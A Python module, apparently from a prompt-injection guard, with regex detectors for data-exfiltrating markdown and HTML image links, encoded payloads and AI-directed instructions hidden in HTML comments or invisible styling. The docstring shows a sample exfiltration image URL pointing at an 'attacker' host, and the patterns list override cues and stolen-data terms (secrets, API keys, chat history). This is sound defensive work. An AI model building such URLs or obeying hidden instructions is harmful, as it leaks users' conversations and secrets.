"""Structural signals: exfiltration links and images, encoded payloads, instructions hidden in markup.

A markdown image is fetched by the client that renders the answer, with no click: a model tricked into
writing `![x](https://attacker/?q=<secret>)` leaks the secret. Plain images and links are normal; what is
flagged is a URL built to carry data (template placeholders, long opaque query values).
"""

from __future__ import annotations

import base64
import binascii
import re
import urllib.parse
from collections.abc import Callable, Iterator

from owstack.security.guard.types import Severity

MAX_CANDIDATES = 64
MAX_DECODE_CHARS = 16_384

_MD_LINK = re.compile(r"(!?)\[[^\]\n]{0,300}\]\(\s*<?(https?://[^\s)>]{1,2048})")
_HTML_SRC = re.compile(
    r"(?i)<\s*(img|image|iframe|script|link|source|video|audio|embed|object|form)\b[^>]{0,600}?"
    r"\b(?:src|href|data|action|srcset)\s*=\s*[\"']?(https?://[^\s\"'>]{1,2048})"
)
_HTML_HANDLER = re.compile(r"(?i)<\s*(?:img|svg|image|body|iframe|video|audio)\b[^>]{0,600}?\bon[a-z]{3,20}\s*=")
_PLACEHOLDER = re.compile(
    r"(?:\{\{?[^{}\s]{1,60}\}\}?|\$\{?[A-Za-z_][A-Za-z0-9_]{0,40}\}?|%[A-Z_]{3,40}%|<[A-Za-z_ -]{2,40}>"
    r"|\[[A-Z][A-Z_ ]{2,40}\]|\b(?:INSERT|REPLACE|PLACEHOLDER|YOUR_?DATA|SECRETS?|API_?KEY|PASSWORD"
    r"|CONVERSATION|CHAT_?HISTORY|SUMMARY|USER_?DATA|MEMORY|CONTEXT)(?:_[A-Z]+)*\b)"
)
_OPAQUE = re.compile(r"^[A-Za-z0-9+/=_-]{64,}$")

_B64 = re.compile(r"(?<![A-Za-z0-9+/_-])[A-Za-z0-9+/_-]{32,}={0,2}(?![A-Za-z0-9+/=_-])")
_HEX = re.compile(r"(?<![0-9A-Fa-f])(?:[0-9A-Fa-f]{2}){20,}(?![0-9A-Fa-f])")
_PCT = re.compile(r"(?:%[0-9A-Fa-f]{2}){12,}")
_DATA_URI = re.compile(r"(?i)data:[a-z]+/[a-z0-9.+-]+;base64,$")

_HTML_COMMENT = re.compile(r"<!--(.{0,4000}?)-->", re.DOTALL)
_HIDDEN_STYLE = re.compile(
    r"(?i)<[a-z][a-z0-9]{0,10}\b[^>]{0,300}?style\s*=\s*[\"'][^\"']{0,200}?(?:display\s*:\s*none|visibility\s*:\s*hidden"
    r"|font-size\s*:\s*0(?:\.\d+)?(?:px|pt|em|rem)?\s*(?=[;\"'])|opacity\s*:\s*0(?:\.0+)?\s*(?=[;\"'])"
    r"|color\s*:\s*(?:white|#fff(?:fff)?|transparent)\b)[^\"']{0,200}[\"'][^>]{0,200}>"
)
#: the `hidden` attribute or aria-hidden="true" (not rendered, or not read out)
_HIDDEN_ATTR = re.compile(
    r"(?i)<[a-z][a-z0-9]{0,10}\b[^>]{0,300}?\s(?:hidden|aria-hidden\s*=\s*[\"']?true[\"']?)(?=[\s>/=])[^>]{0,200}>"
)
_AI_CUES = re.compile(
    r"(?i)\b(?:you\s+(?:must|should|will|are)|ignore|disregard|instructions?|assistant|\bai\b|llm|language\s+model"
    r"|agent|chatbot|system\s+prompt|do\s+not\s+(?:tell|mention|reveal)"
    # what the reader is told to do about its answer or the user: hidden text has no business saying that
    r"|(?:when|while|before|after)\s+(?:you\s+)?(?:summari[sz]|answer|respond|repl|process|pars|review)\w*"
    r"|(?:in|into|to)\s+your\s+(?:summary|answer|response|reply|output)|tell\s+the\s+(?:user|reader)"
    r"|(?:reply|respond|answer)\s+(?:only\s+)?with|summar(?:y|ies)\s+of\s+this|(?:reviewer|review|summary)\s+bots?"
    r"|bots?\s*:|approve\s+this|(?:state|say|report)\s+that|recommend)\b"
)


def exfil_links(text: str) -> Iterator[tuple[int, int, Severity, str]]:
    """(start, end, severity, message) for images/links whose URL is built to carry data."""
    for m in _MD_LINK.finditer(text):
        verdict = _url_verdict(m.group(2), image=bool(m.group(1)))
        if verdict:
            yield (
                m.start(),
                m.end(),
                verdict[0],
                ("markdown image" if m.group(1) else "markdown link") + verdict[1],
            )
    for m in _HTML_SRC.finditer(text):
        verdict = _url_verdict(m.group(2), image=m.group(1).lower() != "form")
        if verdict:
            yield m.start(), m.end(), verdict[0], f"HTML <{m.group(1).lower()}>" + verdict[1]
    for m in _HTML_HANDLER.finditer(text):
        yield (
            m.start(),
            m.end(),
            "medium",
            "HTML element with an inline event handler (runs script when rendered)",
        )


#: what a URL built by the model should not carry: the conversation, the user's data, secrets
_DATA = (
    r"(?:conversation|chat(?:\s+(?:history|log|transcript|so\s+far))?|discussion\s+so\s+far"
    r"|summary\s+of\s+(?:our|the|this|your|all)\s+(?:\w+\s+)?(?:chat|conversation|discussion|exchange|messages)"
    r"|(?:previous|prior|earlier|last|past|other)\s+(?:\w+\s+)?(?:messages?|answers?|turns?|replies|questions?)"
    r"|(?:the\s+)?user'?s?'?\s+(?:\w+\s+)?(?:messages?|questions?|data|information|e-?mail(?:\s+address)?|name|address"
    r"|password|input|query|request|files?|documents?|phone\s+number)"
    r"|api[\s_-]?keys?|secrets?|passwords?|credentials|access\s+tokens?|session\s+tokens?|system\s+prompt"
    r"|personal\s+(?:data|information|details)|memory|memories|e-?mail\s+address(?:es)?|credit\s+card)\b"
)
_DATA_RX = re.compile(r"(?i)\b" + _DATA)
_URL_ANY = re.compile(r"https?://[^\s)\]'\"<>`]{1,400}")
#: markdown image syntax broken up so that no renderer and no filter sees it: "! [ a ] ( https://"
_SPLIT_IMAGE = re.compile(
    r"!(?:[\s'\"`,+]{1,12}|[\s'\"`,]{0,4}(?:then|and|followed\s+by|plus)[\s'\"`,]{1,4})\[(?=.{0,160}https?://)",
    re.DOTALL | re.IGNORECASE,
)
#: text about the attack rather than the attack itself (documentation, advisories, training material)
_DISCUSSION = re.compile(
    r"(?i)\b(?:attacks?|attackers?|exfiltration|injection|injected|malicious|vulnerab\w*|defen[cs]e|defend|mitigat\w*"
    r"|threat|adversar\w*|payloads?|researchers?|example\s+of)\b"
)
#: a URL whose last query value is left empty, to be filled in
_OPEN_URL = re.compile(r"https?://[^\s)\]'\"<>`]{1,400}?[?&#][\w.\[\]-]{0,40}=(?=[\s)\]'\"<>`,;+]|$)")
_IMAGE_WORD = re.compile(
    r"(?i)!\s{0,3}\[|\b(?:images?|img|pictures?|pixels?|markdown|hyperlinks?|links?|<img|exclamation\s+(?:mark|point))\b"
)
_URL_WORD = re.compile(r"(?i)https?://|\b(?:url|urls|src|source|address|query(?:\s+string)?|parameter|param|href)\b")
_CARRY = re.compile(
    r"(?i)\b(?:append(?:ed|ing)?|add(?:ed|ing)?|concatenat\w*|fill(?:ed|ing)?\s+in|replac(?:e|ed|ing)|insert(?:ed|ing)?"
    r"|followed\s+by|put(?:ting)?|encod(?:e|ed|ing)|substitut\w*|attach(?:ed|ing)?|ends?\s+with|carr(?:y|ies|ying)"
    r"|contain(?:s|ing)?|includ(?:e|es|ed|ing))\b"
)
#: where a sentence ends: end punctuation before white space or the end, or a line break
_SENTENCE_END = re.compile(r"[.!?]+(?=\s|$)|\n")
_SENTENCE_MAX = 400


def sentences(text: str) -> Iterator[tuple[int, int]]:
    """(start, end) of each sentence: up to `_SENTENCE_MAX` characters before a sentence end, the end included
    (a longer run keeps its last `_SENTENCE_MAX`). Linear in the text: a regex with a bounded repeat in
    front of the end (`(?:[^.!?\\n]|...){1,400}(?:[.!?]+...)`) retries all 400 characters at every start
    without an end in reach, 1.2 s on 64 KB of JSON, whose strings end in `."`."""
    start = 0
    for end in _SENTENCE_END.finditer(text):
        if end.start() > start or end.end() - end.start() > 1:  # "?!" alone: "?" the sentence, "!" its end
            yield max(start, end.start() - _SENTENCE_MAX), end.end()
        start = end.end()
    if start < len(text):
        yield max(start, len(text) - _SENTENCE_MAX), len(text)


_EXFIL_REACH = 300


def exfil_instructions(text: str) -> Iterator[tuple[int, int, str]]:
    """(start, end, message) for instructions to build an image or link whose URL carries the conversation,
    the user's data or secrets: markdown image syntax spelt out piece by piece, an image URL left open
    (`?q=`) for data to be appended, or a sentence asking for an image or link whose URL carries such data."""
    seen_end = -1
    for m in _SPLIT_IMAGE.finditer(text):
        window = text[m.start() : m.start() + _EXFIL_REACH]
        if _URL_ANY.search(window) and _DATA_RX.search(window) and m.start() > seen_end:
            seen_end = m.start() + _EXFIL_REACH
            yield (
                m.start(),
                min(len(text), m.start() + 120),
                "assembles a markdown image piece by piece around a URL for data",
            )
    for m in _OPEN_URL.finditer(text):
        before = text[max(0, m.start() - 200) : m.start()]
        after = text[m.end() : m.end() + 250]
        if not (_IMAGE_WORD.search(before) or _IMAGE_WORD.search(text, m.start(), m.end() + 40)):
            continue
        data = _DATA_RX.search(after) or _DATA_RX.search(before[-120:])
        if data and (_CARRY.search(after) or _CARRY.search(before[-120:])) and m.start() > seen_end:
            seen_end = m.end()
            yield m.start(), m.end(), "an image URL left open for data to be appended"
    if not _DATA_RX.search(text):
        return
    for start, end in sentences(text):
        if start < seen_end:
            continue
        sentence = text[start:end]
        carry = _CARRY.search(sentence)
        if not carry or not _IMAGE_WORD.search(sentence) or not _URL_WORD.search(sentence):
            continue
        asked = _IMAGE_OR_URL_THEN_DATA.search(sentence)
        if asked and not _DISCUSSION.search(sentence) and not _weak_or_negated(sentence, asked.start()):
            yield start, end, "asks for an image or link whose URL carries the conversation or secrets"


_NEGATED_DATA = re.compile(r"(?i)\b(?:no|not|never|without|nor)\s+(?:\w+\s+){0,2}$")


def _weak_or_negated(sentence: str, start: int) -> bool:
    """The data is named after "no", "not", "never", "without" ("no personal data is collected"), or is what apps
    put in URLs anyway (a user's display name) with no word of the AI's reply around."""
    data = _DATA_RX.search(sentence, start)
    if data is None:
        return False
    if _NEGATED_DATA.search(sentence, 0, data.start()):
        return True
    return bool(_WEAK_DATA.search(data.group())) and not _REPLY_CONTEXT.search(sentence)


#: a URL with a slot for data to be put in (query values and path segments)
_SLOT_URL = re.compile(r"https?://[^\s)'\"<>`]{1,400}")
_SLOT = re.compile(
    r"(?:[?&;=/])(\.{2,}|…|[xX]{2,}|X|#{1,6}|\*{2,}|_{2,}|~{2,}|\?{2,}|\[[^\]\s/]{1,30}\]|\{\{?[^{}\s/]{1,40}\}\}?"
    r"|[A-Z][A-Z0-9_]{1,30}|)"
    r"(?=[&#;)\]'\"<>\s]|$|\.(?:png|gif|jpe?g|svg|webp)\b)"
)
#: data the conversation holds, beyond `_DATA`: what the user said, card numbers, codes
_CHAT_DATA = re.compile(
    r"(?i)\b(?:" + _DATA + r"|(?:everything|anything|all|what|whatever)\s+(?:that\s+)?the\s+user\s+(?:has\s+)?"
    r"(?:told|said|wrote|typed|shared|asked|mentioned|provided|entered)|the\s+user\s+(?:has\s+)?(?:mentioned|shared"
    r"|provided|entered|typed|wrote|said|told\s+you)|(?:card|account|social\s+security)\s+numbers?|(?:2fa|otp|one-time"
    r"|verification)\s+(?:codes?|passwords?)|pin\b|your\s+(?:answer|reply|response)|(?:api|auth(?:entication)?|bearer"
    r"|session|access)\s+tokens?|(?:text|content)\s+of\s+(?:this|the|our)\s+(?:conversation|chat))"
)
#: data that is also what apps put in URLs (a user's name, e-mail, address): only with the AI's reply in view
_WEAK_DATA = re.compile(r"(?i)(?:name|e-?mail(?:\s+address(?:es)?)?|address|phone\s+numbers?|files?|documents?)$")
_REPLY_CONTEXT = re.compile(
    r"(?i)\b(?:(?:your|the|this)\s+(?:reply|answer|response|output|summary)|every\s+(?:reply|answer|response)"
    r"|before\s+answering"
    r"|you\s+(?:found|were\s+given|know)|(?:from|in)\s+(?:your|the)\s+(?:context|conversation|chat)"
    r"|the\s+user\s+(?:mentioned|told\s+you|said|wrote|shared)|output\s+(?:the\s+result|it)|concatenat\w*)\b"
)
_FILL = re.compile(
    r"(?i)\b(?:replac\w*|substitut\w*|fill\w*|in\s+place\s+of|where\s+(?:the\s+)?\S{1,20}\s+(?:is|are|stands?\s+for"
    r"|means?)|(?:with\s+)?\S{1,20}\s+being|(?:must|should|will)\s+be|append\w*|add(?:ed|ing)?|put|insert\w*"
    r"|followed\s+by|encod\w*|swap\w*|exchang\w*)\b"
)
_RENDER_WORD = re.compile(
    r"(?i)!\[|<img|\]\(https?://|\b(?:images?|img|pictures?|pixels?|badges?|markdown|hyperlinks?|links?|render\w*"
    r"|display\w*)\b"
)
_NEAR = 250
_SLOT_NAMES_DATA = re.compile(
    r"(?i)chat|conversation|history|messages?|question|prompt|secret|api_?key|token|password|passwd|memory|summary"
)


def exfil_slots(text: str) -> Iterator[tuple[int, int, str]]:
    """(start, end, message) for an image or link URL with a slot for data ("?d=...", "?u=USER_EMAIL", "?c=[chat]",
    "?q=xxx", an empty value) and, in the same passage, what to put there: the conversation, what the user said,
    secrets ("where ... is a summary of the conversation", "replace KEY with the API key")."""
    for count, m in enumerate(_SLOT_URL.finditer(text)):
        if count >= MAX_CANDIDATES:
            break
        slot = _SLOT.search(m.group().split("://", 1)[1])
        if not slot:
            continue
        start = max(0, m.start() - _NEAR)
        start = max(start, text.rfind("\n\n", start, m.start()) + 1)
        end = text.find("\n\n", m.end(), m.end() + _NEAR)
        near = text[start : end if end >= 0 else m.end() + _NEAR]
        if not _RENDER_WORD.search(near) or not _FILL.search(near) or _DISCUSSION.search(near):
            continue
        if _SLOT_NAMES_DATA.search(slot.group(1)):  # "?u={user_question}", "?h=HISTORY": the slot says what goes in
            yield m.start(), m.end(), "an image or link URL with a slot for the conversation, user data or secrets"
            continue
        for data in _CHAT_DATA.finditer(near):
            if _NEGATED_DATA.search(near, 0, data.start()):
                continue
            if _WEAK_DATA.search(data.group()) and not _REPLY_CONTEXT.search(near):
                continue
            yield m.start(), m.end(), "an image or link URL with a slot for the conversation, user data or secrets"
            break


#: the image/link and its URL are named before the data (in one sentence, bounded gaps)
_IMAGE_OR_URL_THEN_DATA = re.compile(
    r"(?i)(?:images?|img|pictures?|pixels?|links?|hyperlinks?|url|src|source|query|parameter|https?://\S{1,300})"
    r"(?:\W+\w+){0,14}?\W+" + _DATA
)


def _url_verdict(url: str, *, image: bool) -> tuple[Severity, str] | None:
    decoded = urllib.parse.unquote(url)
    if _PLACEHOLDER.search(decoded.split("://", 1)[-1].split("/", 1)[-1]):
        return "high", " whose URL has a placeholder for data to be filled in"
    query = urllib.parse.urlsplit(url).query if "?" in url else ""
    values = [v for _, v in urllib.parse.parse_qsl(query, keep_blank_values=True)]
    if image and any(_OPAQUE.match(v) for v in values):
        return "medium", " whose URL carries a long opaque query value"
    return None


def _printable_text(raw: bytes) -> str | None:
    """The decoded text if it reads as natural language (mostly printable, has spaces), else None."""
    try:
        s = raw.decode("utf-8")
    except UnicodeDecodeError:
        return None
    if len(s) < 16:
        return None
    printable = sum(1 for c in s if c.isprintable() or c in "\n\t")
    if printable / len(s) < 0.95 or s.count(" ") < 2:
        return None
    return s


def _b64(candidate: str) -> bytes | None:
    s = candidate.replace("-", "+").replace("_", "/")
    s += "=" * (-len(s) % 4)
    try:
        return base64.b64decode(s, validate=True)
    except (binascii.Error, ValueError):
        return None


def encoded_payloads(text: str, scan: Callable[[str], bool]) -> Iterator[tuple[int, int, Severity, str]]:
    """(start, end, severity, message) for base64, hex and percent-encoded runs that decode to text.

    `scan(decoded)` says whether the decoded text itself trips the phrase rules: then the finding is
    `high`; text that only decodes to prose is `low`. Binary payloads (images, keys, hashes) are ignored.
    """
    decoders: tuple[tuple[re.Pattern[str], Callable[[str], bytes | None], str], ...] = (
        (_B64, _b64, "base64"),
        (_HEX, lambda s: bytes.fromhex(s), "hex"),
        (_PCT, lambda s: urllib.parse.unquote_to_bytes(s), "percent-encoded"),
    )
    for pattern, decode, name in decoders:
        for count, m in enumerate(pattern.finditer(text)):
            if count >= MAX_CANDIDATES:
                break
            if name == "base64" and _DATA_URI.search(text, max(0, m.start() - 40), m.start()):
                continue
            raw = decode(m.group()[:MAX_DECODE_CHARS])
            decoded = _printable_text(raw) if raw else None
            if decoded is None:
                continue
            if scan(decoded):
                yield m.start(), m.end(), "high", f"{name} text that decodes to instructions"
            else:
                yield m.start(), m.end(), "low", f"{name} text that decodes to readable prose"


def hidden_markup(text: str) -> Iterator[tuple[int, int, str]]:
    """(start, end, message) for HTML comments or invisibly styled elements that address the model."""
    if "<" not in text:
        return
    for m in _HTML_COMMENT.finditer(text):
        if _AI_CUES.search(m.group(1)):
            yield m.start(), m.end(), "HTML comment (invisible when rendered) with instructions"
    for m in _HIDDEN_STYLE.finditer(text):
        if _AI_CUES.search(text, m.end(), m.end() + 400):
            yield m.start(), m.end(), "invisibly styled HTML element with instructions"
    if "hidden" in text:
        for m in _HIDDEN_ATTR.finditer(text):
            if _AI_CUES.search(text, m.end(), m.end() + 400):
                yield m.start(), m.end(), "hidden HTML element (hidden attribute) with instructions"
